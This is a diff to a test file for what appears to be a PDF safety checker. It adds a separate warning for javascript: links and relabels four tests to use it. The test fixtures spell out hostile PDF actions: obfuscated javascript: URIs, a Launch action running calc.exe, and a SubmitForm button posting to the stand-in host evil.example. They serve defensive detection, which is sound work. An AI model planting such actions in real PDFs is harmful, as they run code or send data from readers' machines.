@@ -125,6 +125,7 @@ describe("a PDF", () => {
 
   const contains = {
     script: "The PDF contains a script. Save it again without scripts, e.g. printed to PDF.",
+    scriptLink: "A link of the PDF runs a script (javascript:). Remove the link.",
     program: "A link of the PDF starts a program or opens a file. Remove it, or print the document to PDF.",
     formData: "The PDF sends or loads the data of a form. Remove that button, or print the document to PDF.",
     xfa: "The PDF is an XFA form, which can run scripts. Print it to PDF.",
@@ -183,18 +184,18 @@ describe("a PDF", () => {
       "script",
       () => withoutActionNow(aPdfOf({ catalog: "/OpenAction 4 0 R" }, SCRIPT)),
     ],
-    ["a script as an address", "script", () => withLink("/S/URI/URI(  Java\\nScript:alert\\(1\\))")],
+    ["a script as an address", "scriptLink", () => withLink("/S/URI/URI(  Java\\nScript:alert\\(1\\))")],
     [
       "a script as an address in another object",
-      "script",
+      "scriptLink",
       () => withLink("/S/URI/URI 4 0 R", "(javascript:1)"),
     ],
     [
       "a script as an address that is no text",
-      "script",
+      "scriptLink",
       () => withLink("/S/URI/URI(javascript:1\x8F\xFF\x9F)"),
     ],
-    ["an address before all links", "script", () => aPdfOf({ catalog: "/URI<</Base(javascript:1)>>" })],
+    ["an address before all links", "scriptLink", () => aPdfOf({ catalog: "/URI<</Base(javascript:1)>>" })],
     ["a program", "program", () => aPdfOf({ catalog: "/OpenAction<</S/Launch/F(calc.exe)>>" })],
     ["a program in another object", "program", () => withLink("/S 4 0 R/F(calc.exe)", "/Launch")],
     ["a button that sends a form", "formData", () => withLink("/S/SubmitForm/F(https://evil.example)")],
